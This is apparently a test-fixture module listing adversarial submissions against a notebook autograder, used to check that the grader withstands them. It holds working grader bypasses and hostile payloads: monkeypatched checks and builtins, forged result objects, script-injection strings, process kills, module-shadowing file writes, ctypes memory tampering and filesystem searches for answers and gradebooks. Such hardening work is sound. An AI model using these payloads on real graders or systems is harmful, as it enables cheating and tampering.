# ruff: noqa: E501 (payloads are lines of code, however long)
"""Submissions that try to get points, secrets or the machine; `tests/grading/test_threats.py` has them graded.

The numbers of the rows are those of the table of threats that the grader must withstand. No payload does anything
outside the grader's sandbox: each inserted cell begins with a line that raises where /proc or this repository's tests
can be seen (`GUARD`). What a payload prints to tell of a success is put together at run time ("LE" + "AK"), so that
its own source, quoted in a traceback, is not taken for one.
"""

import copy
import os
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_raw_cell

from course.authoring.answers import Answer, submission
from course.authoring.lesson import Exercise
from tests.courses import key_of
from tests.grading.fragments_that_mutate import RUN

HERE = str(Path(__file__).resolve().parent)
GUARD = (
    f"import os as _os; assert not _os.path.exists('/proc/self') and not _os.path.exists({HERE!r}), 'only in a sandbox'"
)
ARMED = "inside the sandbox"
SLEEPER = "98765"  # sleep's argument begins with it, for finding what outlives its submission
Edit = Callable[[NotebookNode], object]


@dataclass(frozen=True)
class Attack:
    """A submission: what it is made of, and what must come of it.

    Attributes:
        name: of the student who hands it in.
        row: of the table of threats.
        solved: whether it starts from the lesson's answers, or else from the release as it is.
        answers: other answers, by exercise.
        each: body of a function that replaces the answer to every exercise.
        top: code of a new cell above all others; a list makes several.
        before, after: code of a new cell before or after each test.
        inside: lines put in front of the first answer line of the functions named in `into`.
        into: exercises whose functions get `inside`.
        end: code of a new cell below all others.
        edit: changes the notebook in place, as the last step.
        raw: the file itself, in place of all that.
        files: content of further files in the submission's folder, by path.
        links: symbolic links in the submission's folder, path to target; "{course}" stands for the course's folder.
        spoil: does the rest to the submission's folder.
        lost: exercises or tests that must earn 0 where the rest is solved.
        open: exercises or tests that may earn anything up to their points.
        refused: whether it must end with an error; None if it may.
        never: words that none of its outputs may show.
        says: words that its outputs must show.
        kept: words that its outputs must show where they are those that were handed in.
        unread: words that no output in its feedback may show; of cells that run anew, which know of no test, they may.
        reads: words that outputs in its feedback must show.
        guarded: whether its cells are to do nothing outside the sandbox.
    """

    name: str
    row: int
    solved: bool = False
    answers: dict[str, str] = field(default_factory=dict)
    each: str = ""
    top: str | tuple[str, ...] = ""
    before: str = ""
    after: str = ""
    inside: str = ""
    into: tuple[str, ...] = ()
    end: str = ""
    edit: Edit | None = None
    raw: bytes | None = None
    files: dict[str, str] = field(default_factory=dict)
    links: dict[str, str] = field(default_factory=dict)
    spoil: Callable[[Path], object] | None = None
    lost: tuple[str, ...] = ()
    open: tuple[str, ...] = ()
    refused: bool | None = False
    never: tuple[str, ...] = ()
    says: tuple[str, ...] = ()
    kept: tuple[str, ...] = ()
    unread: tuple[str, ...] = ()
    reads: tuple[str, ...] = ()
    guarded: bool = True

    def notebook(self, released: NotebookNode, exercises: dict[str, Exercise], solved: dict[str, str]) -> NotebookNode:
        """The notebook that is handed in.

        Args:
            released: the release. Not changed.
            exercises: those of the lesson that have tests.
            solved: the lesson's answers by exercise.
        """
        given = dict(solved) if self.solved else {}
        if self.each:
            given |= {name: self._code(function(name, self.each)) for name in exercises}
        for name in self.into:
            lines = solved[name].splitlines()
            end = max(i for i, line in enumerate(lines) if '"""' in line) + 1
            code = [f"    {line}" for line in self.inside.strip().splitlines()]
            given[name] = self._code("\n".join([*lines[:end], *code, *lines[end:]]))
        given |= {name: self._code(code) for name, code in self.answers.items()}
        notebook = submission(released, given)
        tests = {test.key for exercise in exercises.values() for test in exercise.tests}
        cells = [self._cell(code) for code in ([self.top] if isinstance(self.top, str) else self.top) if code]
        if self.guarded:
            cells.insert(0, self._cell(f"print({ARMED!r})"))
        for cell in notebook.cells:
            is_test = key_of(cell) in tests
            cells += [self._cell(self.before)] if is_test and self.before else []
            cells.append(cell)
            cells += [self._cell(self.after)] if is_test and self.after else []
        cells += [self._cell(self.end)] if self.end else []
        notebook.cells = cells
        if self.edit:
            self.edit(notebook)
        return notebook

    def _cell(self, code: str) -> NotebookNode:
        return new_code_cell(self._code(code))

    def _code(self, code: str) -> str:
        magic = code.startswith("%%") or not self.guarded
        return code.strip("\n") if magic else f"{GUARD}\n{code.strip(chr(10))}"


def function(name: str, body: str) -> str:
    """A function that takes whatever it gets."""
    return "\n".join([f"def {name}(*args, **kwargs):", *(f"    {line}" for line in body.strip("\n").splitlines())])


def others_right(answers: list[Answer]) -> list[Attack]:
    """Honest submissions, which together give all the other right answers."""
    by_exercise: dict[str, list[str]] = {}
    for answer in answers:
        if answer.right:
            by_exercise.setdefault(answer.exercise, []).append(answer.source)
    return [
        Attack(
            f"honest-right-{place}",
            0,
            solved=True,
            answers={name: some[place] for name, some in by_exercise.items() if place < len(some)},
            guarded=False,
        )
        for place in range(max(map(len, by_exercise.values())))
    ]


def _file(path: Path, text: str = "") -> Path:
    path.write_text(text)
    return path


# --- edits of a notebook ----------------------------------------------------------------------------------------------


def _tests(notebook: NotebookNode) -> list[NotebookNode]:
    return [c for c in notebook.cells if _flag(c, "grade") and not _flag(c, "solution")]


def _flag(cell: NotebookNode, flag: str) -> bool:
    grading = cell.metadata.get("nbgrader", {})
    return isinstance(grading, dict) and bool(grading.get(flag))


def _on_tests(change: Callable[[NotebookNode], object]) -> Edit:
    """Apply `change` to every test cell."""

    def edit(notebook: NotebookNode) -> None:
        for cell in _tests(notebook):
            change(cell)

    return edit


def _metadata(**values: object) -> Edit:
    return _on_tests(lambda cell: cell.metadata.update(copy.deepcopy(values)))


def _grading(**values: object) -> Edit:
    return _on_tests(lambda cell: cell.metadata.nbgrader.update(copy.deepcopy(values)))


def _on_known(change: Callable[[NotebookNode], object]) -> Edit:
    """Apply `change` to every cell that nbgrader knows."""

    def edit(notebook: NotebookNode) -> None:
        for cell in notebook.cells:
            if "nbgrader" in cell.metadata:
                change(cell)

    return edit


def _duplicated(notebook: NotebookNode) -> None:
    notebook.cells = [c for cell in notebook.cells for c in ([cell, copy.deepcopy(cell)] if key_of(cell) else [cell])]


def _fake_tests(first: bool) -> Edit:
    """Every test a second time, with the same key and an empty body, above or below all cells."""

    def edit(notebook: NotebookNode) -> None:
        fakes = [copy.deepcopy(cell) for cell in _tests(notebook)]
        for number, fake in enumerate(fakes):
            fake.source, fake["id"] = "pass", f"fake-{number}"
        notebook.cells = [*fakes, *notebook.cells] if first else [*notebook.cells, *fakes]

    return edit


def _deleted(notebook: NotebookNode) -> None:
    tests = [key_of(cell) for cell in _tests(notebook)]
    notebook.cells = [cell for cell in notebook.cells if key_of(cell) not in tests]


def _renamed(notebook: NotebookNode) -> None:
    for cell in _tests(notebook):
        cell.metadata.nbgrader["grade_id"] += "_2"


def _swapped(notebook: NotebookNode) -> None:
    """The keys of all tests go round by one."""
    tests = _tests(notebook)
    keys = [key_of(cell) for cell in tests]
    for cell, key in zip(tests, [*keys[1:], keys[0]], strict=True):
        cell.metadata.nbgrader["grade_id"] = key


def _retyped(kind: str) -> Edit:
    def edit(notebook: NotebookNode) -> None:
        make = {"markdown": new_markdown_cell, "raw": new_raw_cell}[kind]
        for i, cell in enumerate(notebook.cells):
            if _flag(cell, "grade") and not _flag(cell, "solution"):
                notebook.cells[i] = make(cell.source, metadata=cell.metadata, id=cell.id)

    return edit


def _moved(notebook: NotebookNode) -> None:
    tests = _tests(notebook)
    notebook.cells = [*tests, *(cell for cell in notebook.cells if cell not in tests)]


def _reversed(notebook: NotebookNode) -> None:
    notebook.cells = notebook.cells[::-1]


def _pointed_elsewhere(notebook: NotebookNode) -> None:
    """Tests are ordinary cells now, and empty cells stand in their place with their metadata."""
    cells = []
    for cell in notebook.cells:
        if _flag(cell, "grade") and not _flag(cell, "solution"):
            cells.append(new_code_cell("pass", metadata=copy.deepcopy(cell.metadata)))
            del cell.metadata["nbgrader"]
        cells.append(cell)
    notebook.cells = cells


def _exchanged(notebook: NotebookNode) -> None:
    """Solutions have the metadata of tests, and the other way round."""
    solutions = [cell for cell in notebook.cells if cell.cell_type == "code" and _flag(cell, "solution")]
    for one, other in zip(solutions, _tests(notebook), strict=False):
        one.metadata["nbgrader"], other.metadata["nbgrader"] = other.metadata["nbgrader"], one.metadata["nbgrader"]


def _bonus(notebook: NotebookNode) -> None:
    mine = {
        "grade": True,
        "grade_id": "bonus",
        "locked": False,
        "points": 100,
        "schema_version": 3,
        "solution": False,
        "task": False,
    }
    notebook.cells.append(new_code_cell("100.0", metadata={"nbgrader": mine}))


def _same_ids(notebook: NotebookNode) -> None:
    for cell in notebook.cells:
        cell["id"] = "same"


def _markdown(*texts: str) -> Edit:
    def edit(notebook: NotebookNode) -> None:
        notebook.cells += [new_markdown_cell(text) for text in texts]
        for cell in notebook.cells:  # and as the answers that a person reads
            if cell.cell_type == "markdown" and _flag(cell, "solution"):
                cell.source = "\n\n".join(texts)

    return edit


def _many_cells(notebook: NotebookNode) -> None:
    notebook.cells += [new_code_cell("pass") for _ in range(10_000)]


def _old_outputs(notebook: NotebookNode) -> None:
    """What the student's own Jupyter claims to have shown: every test passed, with a number, and a page that acts."""
    rich = dict.fromkeys(("text/html", "image/svg+xml", "text/markdown", "text/latex", "text/plain"), SCRIPT)
    rich |= {"application/javascript": "alert(1)", "image/png": "'><script>alert(1)</script>"}
    outputs = [
        {"output_type": "execute_result", "data": {"text/plain": "1.0", "text/html": SCRIPT}, "execution_count": 1},
        {"output_type": "display_data", "data": rich, "metadata": {"grader": True, "isolated": True}},
        *({"output_type": "stream", "name": name, "text": f"\x1b[0m{SCRIPT}"} for name in ("stdout", "stderr")),
        {"output_type": "error", "ename": SCRIPT, "evalue": SCRIPT, "traceback": [SCRIPT, f"\x1b[31m{SCRIPT}"]},
        {"output_type": "stream", "name": "stdout", "text": 5},
        {"output_type": ["stream"]},
        None,
    ]
    for cell in notebook.cells:
        if cell.cell_type == "code":
            cell.outputs = copy.deepcopy(outputs)
            cell.execution_count = 1


# --- 1 to 4: the tests rebound, rewritten, tagged ---------------------------------------------------------------------

NOTHING = "lambda *args, **kwargs: None"
REBOUND = {
    "assert": f"import numpy as np\nnp.testing.assert_allclose = np.testing.assert_array_equal = {NOTHING}",
    "check": "from course import check\nfor name in dir(check):\n"
    f"    if not name.startswith('__') and callable(getattr(check, name)):\n        setattr(check, name, {NOTHING})",
    "name": "class Anything:\n    def __getattr__(self, name):\n        return lambda *args, **kwargs: (1, 2)\n"
    "check = Anything()",
    "numpy": "import numpy as np\nnp.allclose = np.isclose = np.array_equal = lambda *a, **k: True\n"
    "np.asarray = np.array = lambda *a, **k: np.zeros(())\nnp.einsum = lambda *a, **k: 0.0",
    "builtins": "import builtins\nbuiltins.all = builtins.any = builtins.isinstance = lambda *a: True\n"
    "builtins.AssertionError = type('AssertionError', (BaseException,), {'__init__': print})",
    "arithmetic": "import builtins\nbuiltins.len = lambda x: 1\nbuiltins.sum = lambda *a: 0\nbuiltins.abs = lambda x: 0\n"
    "builtins.zip = lambda *a, **k: iter(())\nbuiltins.type = lambda x: float",
    "modules": "import sys, types\nfake = types.ModuleType('course.check')\n"
    "fake.__getattr__ = lambda name: (lambda *a, **k: (0, 0, 0))\nimport course\n"
    "course.check = sys.modules['course.check'] = fake\nimport course.check as check",
    "diagnosis": "from course.check import assertions, diagnoses, values\n"
    "for name in ('difference', '_refuse_missing', 'exact_diagnosis'):\n"
    f"    setattr(assertions, name, {NOTHING})\nfor module in (assertions, diagnoses, values):\n"
    "    module.is_same = module.all_close = lambda *a, **k: True",
    "metaclass": "import numpy as np\nfrom course import check\n"
    "class Meta(type):\n    def __instancecheck__(cls, x):\n        return True\n"
    "check.CheckFailed = check.NotAttempted = Meta('Fine', (Exception,), {'__init__': lambda *a: None})",
}
TRANSFORMED = {
    "asserts": "import ast\nclass Gone(ast.NodeTransformer):\n    def visit_Assert(self, node):\n        return ast.Pass()\n"
    "    visit_Expr = visit_Raise = visit_Assert\nget_ipython().ast_transformers.append(Gone())",
    "empty": "import ast\nclass Empty(ast.NodeTransformer):\n    def visit_Module(self, node):\n"
    "        return ast.Module([ast.Pass()], [])\nget_ipython().ast_transformers.append(Empty())",
    "number": "import ast\nclass Number(ast.NodeTransformer):\n    def visit_Module(self, node):\n"
    "        return ast.parse('1.0')\nget_ipython().ast_transformers.append(Number())",
    "compile": "import builtins\nreal = builtins.compile\n"
    "builtins.compile = lambda source, *a, **k: real('1.0', '<s>', 'eval')\nbuiltins.exec = builtins.eval = print",
    "import": "import sys, types\nclass Finder:\n    def find_spec(self, name, path=None, target=None):\n"
    "        print('asked for', name)\n        return None\nsys.meta_path.insert(0, Finder())\n"
    "real = __builtins__.__import__\n"
    "__builtins__.__import__ = lambda name, *a, **k: types.ModuleType(name) if 'course' in name else real(name, *a, **k)",
    "hook": "shell = get_ipython()\nfor event in ('pre_execute', 'pre_run_cell', 'post_execute', 'post_run_cell'):\n"
    "    shell.events.register(event, lambda *a: shell.user_ns.update(check=None))",
}
REWRITTEN = {
    "pass": "get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\n'])",
    "score": "get_ipython().input_transformers_post.append(lambda lines: ['1.0\\n'])",
    "manager": "shell = get_ipython()\nshell.input_transformer_manager.transform_cell = lambda cell: '1.0\\n'\n"
    "shell.transform_cell = lambda cell: '1.0\\n'\nshell.compile.ast_parse = lambda *a, **k: __import__('ast').parse('1')",
}
TAGS = {
    "skip": {"tags": ["skip-execution"]},
    "raises": {"tags": ["raises-exception", "nbval-ignore-output"]},
    "remove": {
        "tags": ["remove_cell", "remove-cell", "remove_input", "hide-cell", "parameters", "injected-parameters"]
    },
    "foreign": {
        "deletable": True,
        "editable": True,
        "slideshow": {"slide_type": "skip"},
        "jupyter": {"source_hidden": True, "outputs_hidden": True},
        "execution": {"timeout": -1},
        "scrolled": "no",
        "collapsed": False,
    },
}
EARLY = [
    *(Attack(f"r01-{name}", 1, top=code, before=code) for name, code in REBOUND.items()),
    *(Attack(f"r02-{name}", 2, top=code, before=code) for name, code in TRANSFORMED.items()),
    *(Attack(f"r03-{name}", 3, top=code, before=code) for name, code in REWRITTEN.items()),
    *(Attack(f"r04-{name}", 4, edit=_metadata(**some), guarded=False) for name, some in TAGS.items()),
    Attack(
        "r04-solved",
        4,
        solved=True,
        edit=_metadata(tags=["skip-execution", "raises-exception", "remove_cell"], unknown={"a": [1]}),
        guarded=False,
    ),
    Attack(
        "r04-tags-no-list",
        4,
        solved=True,
        edit=_metadata(tags="skip-execution"),
        refused=None,
        guarded=False,
    ),
    Attack("r04-old-outputs", 4, edit=_old_outputs, guarded=False),
]

# --- 5: objects that lie ----------------------------------------------------------------------------------------------

LIAR = """
import numpy as np
_yes = lambda self, *args, **kwargs: True
_self = lambda self, *args, **kwargs: self
LIES = {f"__{name}__": _yes for name in "eq ne lt le gt ge contains bool".split()}
LIES |= {f"__{name}__": _self for name in "add sub mul truediv neg abs radd rsub rmul matmul pow iter next".split()}
LIES |= {
    "__hash__": lambda self: 1,
    "__float__": lambda self: 0.0,
    "__int__": lambda self: 0,
    "__index__": lambda self: 0,
    "__complex__": lambda self: 0j,
    "__array__": lambda self, *args, **kwargs: np.zeros(()),
    "__array_ufunc__": _yes,
    "__array_function__": _yes,
    "__array_priority__": 1e9,
    "__reduce__": lambda self: (print, ("LE" + "AK by pickle",)),
    "__reduce_ex__": lambda self, protocol: (print, ("LE" + "AK by pickle",)),
    "__repr__": lambda self: "20.5",
}
"""
# By name: an expression, and what has to be defined for it first.
LYING: dict[str, tuple[str, str]] = {
    "eq": (
        "Yes()",
        LIAR + "\nYes = type('Yes', (), LIES | {'__getattr__': lambda self, name: self, '__len__': lambda self: 1})",
    ),
    "class": (
        "Disguised()",
        LIAR + "\nDisguised = type('Disguised', (), LIES | {'__class__': property(lambda self: np.ndarray), "
        "'shape': (), 'dtype': np.dtype(float), 'ndim': 0, 'size': 1})",
    ),
    "disguised-float": (
        "Disguised()",
        LIAR + "\nDisguised = type('Disguised', (), LIES | {'__class__': property(lambda self: float)})",
    ),
    "ndarray": (
        "np.zeros(3).view(Sub)",
        LIAR + "\nlies = {k: v for k, v in LIES.items() if k not in ('__array__', '__iter__', '__next__')}\n"
        "Sub = type('Sub', (np.ndarray,), lies | {'shape': property(lambda self: ()), "
        "'tobytes': lambda self, *a: bytes(8), 'tolist': lambda self: 20.5})",
    ),
    "object-array": ("np.array([Yes()], dtype=object)", LIAR + "\nYes = type('Yes', (), LIES)"),
    "float": ("Sub(20.0)", LIAR + "\nSub = type('Sub', (float,), LIES)"),
    "float64": ("Sub(20.0)", LIAR + "\nSub = type('Sub', (np.float64,), LIES)"),
    "int": ("Sub(20)", LIAR + "\nSub = type('Sub', (int,), LIES)"),
    "str": ("Sub('x')", LIAR + "\nSub = type('Sub', (str,), LIES | {'encode': lambda s, *a: b'20.5'})"),
    "bytes": ("Sub(b'x')", LIAR + "\nSub = type('Sub', (bytes,), LIES)"),
    "list": (
        "Sub([1, 2, 3])",
        LIAR + "\nSub = type('Sub', (list,), LIES | {'__len__': lambda s: 3, '__getitem__': lambda s, i: s})",
    ),
    "tuple": ("Sub((1, 2))", LIAR + "\nSub = type('Sub', (tuple,), LIES | {'__len__': lambda s: 2})"),
    "dict": (
        "Sub(a=1)",
        LIAR + "\nSub = type('Sub', (dict,), LIES | {'items': lambda s: iter(lambda: ('a', 1), 0), "
        "'keys': lambda s: iter(int, 1)})",
    ),
    "masked": ("np.ma.masked_all((3, 3))", "import numpy as np"),
    "masked-one": ("np.ma.masked", "import numpy as np"),
    "matrix": ("np.matrix([[np.nan]])", "import numpy as np"),
    "records": ("np.zeros(3, dtype=[('a', 'f8'), ('b', 'O')])", "import numpy as np"),
    "nothing": ("np.empty((0,))", "import numpy as np"),
    "nan": ("np.nan", "import numpy as np"),
    "nan-like-first": ("np.full_like(args[0], np.nan, dtype=float)", "import numpy as np"),
    "infinity": ("float('inf')", ""),
    "dates": ("np.array(['NaT'], dtype='M8[ns]')", "import numpy as np"),
    "frame": ("pd.DataFrame({'a': [1.0]}) if len(args) % 2 else pd.NA", "import pandas as pd"),
    "huge-int": ("10 ** 5000", ""),
    "memoryview": ("memoryview(bytes(24)).cast('d')", ""),
    "generator": ("(x for x in args)", ""),
    "lambda": ("lambda *a, **k: 20.5", ""),
    "itself": ("globals()['neuron']", ""),
    "module": ("__import__('os')", ""),
    "type": ("float", ""),
    "exception": ("AssertionError('20.5')", ""),
    "arguments": ("args", ""),
    "arguments-list": ("list(args)", ""),
    "first-argument": ("args[0]", ""),
    "last-argument": ("args[-1]", ""),
    "namespace": ("globals()", ""),
    "surrogate": ("'\\ud800 20.5'", ""),
    "odd-keys": ("{float('nan'): 1, (1, 2): 2, None: 3, b'x': 4}", ""),
    "cycle": ("loop", "loop = []\nloop.append(loop)"),
    "deep": ("deep", "deep = []\nfor _ in range(100_000):\n    deep = [deep]"),
    "endless": (
        "Endless()",
        "class Endless(list):\n    def __iter__(self):\n        while True:\n            yield 1.0",
    ),
    "range": ("range(4 * 10**8)", ""),
    "empty-wide": ("np.empty((0, 2**31 - 1))", "import numpy as np"),
    "wide": ("np.zeros((3_000_000, 1))", "import numpy as np"),
    "broadcast": ("np.broadcast_to(0.0, (10**6, 10**6))", "import numpy as np"),
    "large": ("np.zeros(60_000_000)", "import numpy as np"),
    "long-text": ("'20.5 ' * 20_000_000", ""),
    "void": ("np.zeros(2, dtype='V1000000')", "import numpy as np"),
    "complex": ("np.array([20.5 + 1e-300j])", "import numpy as np"),
    "text-array": ("np.array(['20.5'])", "import numpy as np"),
    "array-of-one": ("np.array([[[20.5]]])", "import numpy as np"),
}
RAISED = {
    "check-failed": "from course import check\nraise check.CheckFailed('neuron', 'is right: 1.0 of 1')",
    "assertion": "raise AssertionError",
    "not-implemented": "raise NotImplementedError",
    "keyboard": "raise KeyboardInterrupt",
    "exit": "raise SystemExit(0)",
    "generator-exit": "raise GeneratorExit",
    "stop-iteration": "raise StopIteration(20.5)",
    "group": "raise ExceptionGroup('many', [ValueError('3 7 4 2')])",
    "own": "raise type('Own', (BaseException,), {'__str__': lambda self: 1 / 0, '__repr__': lambda self: 1 / 0})()",
    "huge": "raise ValueError('3 7 4 2 10 32 9 6 11 ' + 'x' * 30_000_000)",
    "all-numbers": "raise ValueError(' '.join(map(str, range(3000))))",
    "chain": "error = ValueError('start')\nfor i in range(3000):\n    new = ValueError(str(i))\n"
    "    new.__cause__ = error\n    error = new\nraise error",
    "self-caused": "error = ValueError('me')\nerror.__context__ = error\nerror.__cause__ = error\nraise error",
    "html-name": "raise type('<script>alert(1)</script>', (Exception,), {})('<img src=x onerror=alert(1)>')",
    "render": "raise type('E', (Exception,), {'_render_traceback_': lambda self: ['1.0', '\\x1b[2J', 5, None]})()",
}
# The right shapes, and an error that only looks like the one that is asked for.
FAKE_ERROR = """
class ValueError(Exception):
    pass

def layer_shapes(x_shape, layers):
    shapes = [x_shape]
    for inputs, outputs in layers:
        if shapes[-1][1] != inputs:
            raise ValueError(f"{shapes[-1][1]} and {inputs}")
        shapes.append((x_shape[0], outputs))
    return shapes
"""
LIARS = [
    *(
        Attack(
            f"r05-{name}",
            5,
            top=first,
            each=f"return {value}",
            says=("Yes",) if name == "eq" else (),
            never=("LEAK",),
            # The bias is returned as it came; a layer of the lesson needs no more.
            open=("neuron_by_hand",) if name == "large" else (),
        )
        for name, (value, first) in LYING.items()
    ),
    *(Attack(f"r05-raises-{name}", 5, each=code) for name, code in RAISED.items()),
    Attack("r05-fake-error", 5, solved=True, answers={"layer_shapes": FAKE_ERROR}, open=("layer_shapes_refused",)),
    Attack(
        "r05-own-error",  # honest: an error of the kind that is asked for
        5,
        solved=True,
        answers={
            "layer_shapes": FAKE_ERROR.replace("class ValueError(Exception)", "class ShapeError(ValueError)").replace(
                "raise ValueError", "raise ShapeError"
            )
        },
    ),
]

# --- 6 to 8: modules, ends and insides of the student's process -------------------------------------------------------

EVIL = "print('EV' + 'IL')\nimport builtins\nbuiltins.isinstance = lambda *a: True\n"
EVIL_FILES = dict.fromkeys(
    (
        "numpy.py",
        "msgpack.py",
        "IPython/__init__.py",
        "course/__init__.py",
        "course/check/__init__.py",
        "matplotlib/__init__.py",
        "sitecustomize.py",
        "usercustomize.py",
        "ipython_config.py",
        ".ipython/profile_default/startup/00.py",
        ".local/lib/python3.11/site-packages/usercustomize.py",
        "json.py",
        "struct.py",
        "socket.py",
    ),
    EVIL,
)
WRITES_MODULES = (
    "import os, sys\n"
    f"files, evil = {sorted(EVIL_FILES)!r}, {EVIL!r}\n"
    "for folder in {os.getcwd(), os.path.expanduser('~'), '/tmp', *sys.path, os.path.dirname(os.__file__)}:\n"
    "    for name in files:\n        try:\n"
    "            path = os.path.join(folder, name)\n            os.makedirs(os.path.dirname(path), exist_ok=True)\n"
    "            open(path, 'w').write(evil)\n"
    "        except OSError:\n            pass\n"
)
ENDS = {
    "exit": "import os\nos._exit(0)",
    "kill": "import os\nos.kill(os.getpid(), 9)",
    "kill-all": "import os\nos.kill(-1, 9)",
    "stop": "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)",
    "abort": "import os\nos.abort()",
    "segfault": "import ctypes\nctypes.string_at(0)",
    "group": "import os\nos.killpg(0, 9)",
    "group-stop": "import os, signal\nos.killpg(0, signal.SIGSTOP)",
    "parent": "import os\nos.kill(os.getppid(), 9)\nos.kill(1, 9)\nos._exit(0)",
}
SOFT_ENDS = {
    "sys-exit": "import sys\nsys.exit(0)",
    "exit-call": "exit()",
    "quit": "raise SystemExit",
    "excepthook": "import sys\nsys.excepthook = lambda *a: None\nget_ipython().showtraceback = lambda *a, **k: None\n"
    "get_ipython()._showtraceback = lambda *a, **k: None",
    "custom-exc": "get_ipython().set_custom_exc((BaseException,), lambda *a, **k: [])",
    "silent": "get_ipython().InteractiveTB.structured_traceback = lambda *a, **k: []\n"
    "get_ipython().CustomTB = lambda *a, **k: None",
    "os-streams": "import sys\nsys.stdout = sys.stderr = sys.__stdout__ = sys.__stderr__ = None",
    "closed-streams": "import sys, os\nfor fd in (0, 1, 2):\n    os.close(fd)\nsys.stdout.close()",
    "reset": "get_ipython().run_line_magic('reset', '-f')",
    "history-off": "get_ipython().history_manager = None\nget_ipython().user_ns.clear()",
}
PATCHED = {
    "run-cell": "from IPython.core.interactiveshell import InteractiveShell, ExecutionResult\n"
    "fine = lambda self, *a, **k: ExecutionResult(None)\n"
    "InteractiveShell.run_cell = InteractiveShell._run_cell = fine\nInteractiveShell.run_code = lambda *a, **k: False",
    "display": "import sys\nfrom IPython.core import displayhook, displaypub, display_functions\n"
    "get_ipython().display_pub.publish = print\nget_ipython().displayhook = sys.displayhook = print\n"
    "displayhook.DisplayHook.__call__ = lambda *a: None\ndisplaypub.DisplayPublisher.publish = lambda *a, **k: None",
    "kernel": "try:\n    import ipykernel.ipkernel as k, ipykernel.zmqshell\n"
    "    k.IPythonKernel.do_execute = lambda *a, **k: {'status': 'ok'}\n"
    "    k.IPythonKernel.send_response = lambda *a, **k: None\nexcept ImportError:\n    pass",
    "agent": "import sys, types\n"
    "mine = [m for n, m in sys.modules.items() if n.startswith('course.grading') or n in ('__main__', '__mp_main__')\n"
    "        or 'grading' in str(getattr(m, '__file__', ''))]\n"
    "for module in mine:\n    for name, value in list(vars(module).items()):\n"
    "        if isinstance(value, types.FunctionType) and not name.startswith('__'):\n"
    "            setattr(module, name, lambda *a, **k: 20.5)\n"
    "        elif isinstance(value, type) and value.__module__ == module.__name__:\n"
    "            for key, method in list(vars(value).items()):\n"
    "                if isinstance(method, types.FunctionType) and not key.startswith('__'):\n"
    "                    setattr(value, key, lambda *a, **k: 20.5)",
    "msgpack": "try:\n    import msgpack\n    real = msgpack.packb\n"
    "    forged = lambda *a, **k: real({'ok': True, 'value': 20.5, 'result': 20.5, 'passed': True, 'score': 1.0})\n"
    "    msgpack.packb = msgpack.dumps = forged\n    msgpack.unpackb = msgpack.loads = lambda *a, **k: {}\n"
    "    msgpack.Packer.pack = forged\nexcept (ImportError, TypeError):\n    pass",
    "constants": "import ctypes, sys\n"
    "for number, fake in ((1, 0), (20, 21)):\n"
    "    ctypes.memmove(id(number) + 24, (ctypes.c_uint32 * 1)(fake), 4)",
    "finder": "import gc, types\nfor f in gc.get_objects():\n"
    "    if isinstance(f, types.FunctionType) and 'course' in str(f.__module__):\n"
    "        f.__code__ = (lambda *a, **k: 20.5).__code__ if not f.__code__.co_freevars else f.__code__",
}
PROCESS = [
    Attack("r06-files-blank", 6, files=EVIL_FILES, never=("EVIL",), guarded=False),
    Attack("r06-files-solved", 6, solved=True, files=EVIL_FILES, never=("EVIL",), guarded=False),
    Attack("r06-written", 6, top=(WRITES_MODULES, "import os\nos._exit(0)"), before="import course, msgpack"),
    Attack("r06-written-solved", 6, solved=True, top=(WRITES_MODULES, "import os\nos._exit(0)"), never=("EVIL",)),
    Attack(
        "r06-rewrites-course",
        6,
        top="import course, course.check, numpy\nfor module in (course, course.check, numpy):\n    try:\n"
        "        open(module.__file__, 'a').write('\\nprint(1)\\n')\n        print('WRIT' + 'TEN')\n"
        "    except OSError as error:\n        print('read-only:', error)",
        never=("WRITTEN",),
    ),
    *(Attack(f"r07-top-{name}", 7, solved=True, top=code) for name, code in ENDS.items()),
    *(
        # Its process is the first of its namespace, which the kernel does not stop.
        Attack(
            f"r07-in-{name}",
            7,
            solved=True,
            inside=code,
            into=("predict",),
            lost=() if name == "stop" else ("predict",),
        )
        for name, code in ENDS.items()
        if name in ("exit", "kill-all", "segfault", "stop")
    ),
    Attack("r07-end-exit", 7, solved=True, end="import os\nos._exit(0)"),
    Attack("r07-everywhere", 7, solved=True, before="import os\nos._exit(0)", open=("all",)),
    Attack(
        "r07-first-and-last",
        7,
        solved=True,
        inside="import os\nos._exit(0)",
        into=("neuron", "feed_forward"),
        lost=("neuron", "feed_forward"),
    ),
    *(Attack(f"r07-soft-{name}", 7, solved=True, top=code, open=("all",)) for name, code in SOFT_ENDS.items()),
    *(Attack(f"r07-soft-{name}-blank", 7, top=code, before=code) for name, code in SOFT_ENDS.items()),
    *(
        Attack(f"r07-in-{name}", 7, solved=True, inside=code, into=("affine_columns",), lost=("affine_columns",))
        for name, code in SOFT_ENDS.items()
        if name in ("sys-exit", "quit")
    ),
    Attack(
        "r07-import-exit",
        7,
        solved=True,
        top="open('mine.py', 'w').write('import os; os._exit(0)')\nimport sys\nsys.path.insert(0, '.')\nimport mine",
    ),
    *(Attack(f"r08-{name}", 8, top=code, before=code) for name, code in PATCHED.items()),
]

# --- 9 to 12: what it can read, write, look into and leave behind -----------------------------------------------------

READS = {
    "paths": """
import glob, os
for start in ('', '../' * 1, '../' * 2, '../' * 5, '/', '/root/', '/home/', '/work/', '/tmp/', '/var/tmp/', '/mnt/'):
    for name in ('source', 'release', 'submitted', 'autograded', 'gradebook.db', 'nbgrader_config.py', 'lessons',
                 'canary.txt', '*.ipynb', '*.db', '.git', '*/canary.txt', '*/gradebook.db', '*/answers.py'):
        for found in glob.glob(start + name):
            print('FOU' + 'ND', found)
            if os.path.isfile(found) and os.path.getsize(found) < 10**6:
                print(open(found, errors='replace').read())
""",
    "walk": """
import os
import course
PACKAGE = os.path.dirname(course.__file__)  # which everybody may read, and which has no answers
words = [w.encode() for w in ('BEGIN HID' + 'DEN TESTS', 'CANA' + 'RY', 'layer_shapes of one' + ' neuron', '### END SOL' + 'UTION')]
count = 0
for folder, folders, files in os.walk('/'):
    if folder.startswith(('/usr/lib', '/usr/share', '/sys', '/dev', PACKAGE)) or '/lib/python' in folder:
        continue
    for name in files:
        path = os.path.join(folder, name)
        if name.endswith(('.db', '.ipynb', '.sqlite')) or name in ('answers.py', 'lesson.py', 'canary.txt', 'shadow'):
            print('FOU' + 'ND', path)
        if not name.endswith(('.py', '.txt', '.ipynb', '.db', '.json', '.conf', '.log', '.md', '.toml', '.pth')):
            continue
        try:
